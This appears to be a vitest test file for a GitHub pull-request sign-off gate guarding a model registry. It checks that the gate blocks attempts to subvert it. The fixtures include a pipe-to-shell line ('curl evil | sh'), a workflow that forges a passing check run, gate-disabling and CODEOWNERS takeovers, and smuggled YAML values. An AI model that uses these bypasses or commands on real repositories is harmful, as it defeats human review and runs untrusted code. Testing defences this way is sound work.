// A writer (not an admin) first weakens what runs or backs the gate, then walks through it; or slips a registry file
// past it that the diff reads one way and the schema forbids. Each attempt, against the GitHub double with real git.
import { describe, expect, it } from 'vitest';
import { git } from '../../src/git/run.ts';
import { ISOLATED_GIT_ENV } from '../github-double/git-store.ts';
import { useGitHubDouble } from '../github-double/harness.ts';
import { FULL, STAGES, useGateFixture } from './gate-fixture.ts';

const gh = useGitHubDouble();
const fx = useGateFixture(gh);

/** A writer's own branch and pull request (#1), as mallory. */
async function writerPullRequest(files: Record<string, string | null>, message = 'Tidy up'): Promise<string> {
  const head = await gh.state.commit(FULL, 'mallory/tidy', files, message, 'mallory');
  gh.state.openPull(FULL, { head: 'mallory/tidy', user: 'mallory' });
  return head;
}

const judge = async (head: string) =>
  (
    await fx.gate({
      event: ['pull_request_target', { number: 1, pull_request: { number: 1, head: { sha: head } } }],
    })
  ).result;

const GATE_WORKFLOW = '.github/workflows/tollgate-signoff-gate.yml';
const WEAKENED_GATE = [
  'name: tollgate-signoff-gate',
  'on: pull_request_target',
  'jobs:',
  '  gate:',
  '    if: false',
  '    runs-on: ubuntu-latest',
  '    steps:',
  '      - uses: tollgate-dev/tollgate/actions/signoff-gate@v1',
  '',
].join('\n');

describe('the gate guards its own set-up', () => {
  const attacks: [string, Record<string, string | null>][] = [
    ['disables the gate’s own workflow', { [GATE_WORKFLOW]: WEAKENED_GATE }],
    [
      'adds a workflow that posts a passing tollgate/signoff',
      {
        '.github/workflows/lint.yml':
          'on: pull_request\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - run: gh api repos/acme/models/check-runs -f name=tollgate/signoff -f conclusion=success\n',
      },
    ],
    ['drops the code owners of the policy', { '.github/CODEOWNERS': '* @mallory\n' }],
    ['adds a CODEOWNERS at the root', { CODEOWNERS: '* @mallory\n' }],
    ['loosens a registry JSON Schema', { 'schemas/Stages.schema.json': '{"type": "object"}\n' }],
    [
      'moves a Tollgate action pin in a composite action outside .github/',
      {
        'ci/gate/action.yml':
          'runs:\n  using: composite\n  steps:\n    - uses: mallory/tollgate-fork/actions/signoff-gate@main\n',
      },
    ],
  ];
  for (const [what, files] of attacks)
    it(`needs the policy owners' sign-off for a pull request that ${what}`, async () => {
      const head = await writerPullRequest(files);
      await gh.state.addReview(FULL, 1, { user: 'alice', state: 'APPROVED' }); // a model owner, not a policy owner
      const blocked = await judge(head);
      expect(blocked.error).toBeUndefined();
      expect(blocked.conclusion).toBe('failure');
      const verdict = blocked.pullRequests[0]!.verdict;
      expect(verdict.requirements).toEqual([
        expect.objectContaining({ role: 'policy-owner', rule: "change to the gate's own set-up" }),
      ]);
      expect(verdict.changes.join('\n')).toMatch(/guards the gate/);
      expect(fx.checkRuns()[0]!.summary).toMatch(/missing: policy-owner/);

      await gh.state.addReview(FULL, 1, { user: 'paula-policy', state: 'APPROVED' });
      expect((await judge(head)).conclusion).toBe('success');
    });

  it('leaves a change outside the gate’s set-up to ordinary review, and guards what the base policy adds', async () => {
    const docs = await writerPullRequest({ 'docs/notes.md': 'notes\n' });
    expect((await judge(docs)).title).toBe('No sign-off needed');
    // The policy on main guards deploy/ too; the pull request cannot take that (or the defaults) away for itself.
    const policy = fx.registryFiles['registry/policy.yaml']!.replace(
      'signoff:\n',
      "signoff:\n  guarded_paths: ['deploy/**']\n",
    );
    await gh.state.commit(FULL, 'main', { 'registry/policy.yaml': policy }, 'Guard deploy/');
    await git(fx.checkout, ['pull', '--quiet', '--ff-only'], { env: ISOLATED_GIT_ENV });
    const deploy = await gh.state.commit(
      FULL,
      'mallory/tidy',
      { 'deploy/prod.sh': 'curl evil | sh\n' },
      'Deploy',
    );
    const result = await judge(deploy);
    expect(result.conclusion).toBe('failure');
    expect(result.pullRequests[0]!.verdict.changes).toContainEqual(
      expect.stringContaining(
        'deploy/prod.sh changed (outside the registry): guards the gate (matches deploy/**)',
      ),
    );
  });

  it('fails a pull request that mixes a gate set-up change with a promotion, with the reason, whatever the approvals', async () => {
    await fx.openPromotion({ 'schemas/Stages.schema.json': '{"type": "object"}\n' });
    await fx.approve('rita-risk', 'carol', 'alice', 'paula-policy');
    const { result } = await fx.gate();
    expect(result.conclusion).toBe('failure');
    expect(result.pullRequests[0]!.verdict.blocking).toEqual([
      expect.stringMatching(
        /^mixed change: a promotion or policy change together with code, workflow or gate set-up changes \(schemas\/Stages\.schema\.json\); fix: split them/,
      ),
    ]);
  });
});

describe('schema and cross-file validation, before any sign-off is judged', () => {
  /** main's policy with a generic stage rule: any stage not named elsewhere needs only the model owner. */
  async function genericStageRule(): Promise<void> {
    const policy = fx.registryFiles['registry/policy.yaml']!.replace(
      '    - name: new version\n',
      '    - name: stage change\n      change: stage-changed\n      require:\n        - model-owner\n    - name: new version\n',
    );
    await gh.state.commit(FULL, 'main', { 'registry/policy.yaml': policy }, 'Generic stage rule');
    await git(fx.checkout, ['pull', '--quiet', '--ff-only'], { env: ISOLATED_GIT_ENV });
  }

  const stagesWith = (extra: string) =>
    `${fx.registryFiles[STAGES]!.replace(/^# .*\n/, '').trimEnd()}\n${extra}`;
  const v5 = 'registry/models/fraud-detector/versions/v5.yaml';
  const v6 = 'registry/models/fraud-detector/versions/v6.yaml';
  /** v5's record as a new version v6 (which the "new version" rule lets in with the model owner's approval). */
  const newVersion = () =>
    fx.registryFiles[v5]!.replace('id: v5', 'id: v6')
      .replace('request: fraud-r5\n', '')
      .replace('parent: v4', 'parent: v5');
  const attacks: [string, () => Record<string, string>, RegExp][] = [
    [
      'a stage named production with a zero-width space, which no production rule matches',
      () => ({ [STAGES]: stagesWith('  produc\u200btion:\n    version: v5\n') }),
      /^invalid registry file registry\/models\/fraud-detector\/stages\.yaml:\d+: stages\.produc\\u\{200b\}tion: key "produc\\u\{200b\}tion" is not a safe name/,
    ],
    [
      'a version record whose metrics sit behind a YAML merge key (<<:), which a merging loader would expand',
      () => ({
        [v6]: newVersion().replace('metrics:\n  auc: 0.931\n', 'metrics:\n  <<:\n    auc: 0.99\n'),
      }),
      /^invalid registry file registry\/models\/fraud-detector\/versions\/v6\.yaml:\d+: metrics\.<<: must be a number/,
    ],
    [
      'a version record whose artifact hash is not a hash',
      () => ({
        [v6]: newVersion().replace(/(artifact:\n {2}uri: .*\n {2}sha256: )\w+/, '$1trust-me'),
      }),
      /^invalid registry file registry\/models\/fraud-detector\/versions\/v6\.yaml:\d+: artifact\.sha256: /,
    ],
  ];
  for (const [what, files, reason] of attacks)
    it(`blocks ${what}, naming file, line and field, with the model owner's approval`, async () => {
      await genericStageRule();
      const head = await writerPullRequest(files(), 'Stage tweak');
      await gh.state.addReview(FULL, 1, { user: 'alice', state: 'APPROVED' });
      const calls = gh.double.served.length;
      const result = await judge(head);
      expect(result.error).toBeUndefined();
      expect(result.conclusion).toBe('failure');
      const verdict = result.pullRequests[0]!.verdict;
      expect(verdict.blocking[0]).toMatch(reason);
      expect(verdict.requirements).toEqual([]);
      expect(result.title).toMatch(/^Blocked: invalid registry file registry\/models\/fraud-detector\//);
      // Judged before sign-offs: no membership or permission was asked; one query, then the check run.
      expect(gh.double.served.slice(calls).map((r) => `${r.method} ${r.template}`)).toEqual([
        'POST /graphql',
        'GET /repos/{owner}/{repo}/commits/{ref}/check-runs',
        'POST /repos/{owner}/{repo}/check-runs',
      ]);
      // Each problem is an annotation on its line of the pull request's diff.
      const [run] = fx.checkRuns();
      expect(run!.annotations.map((a) => [a.path, a.start_line, a.annotation_level])).toEqual(
        verdict.invalidFiles!.map((p) => [p.file, p.line, 'failure']),
      );
    });
});
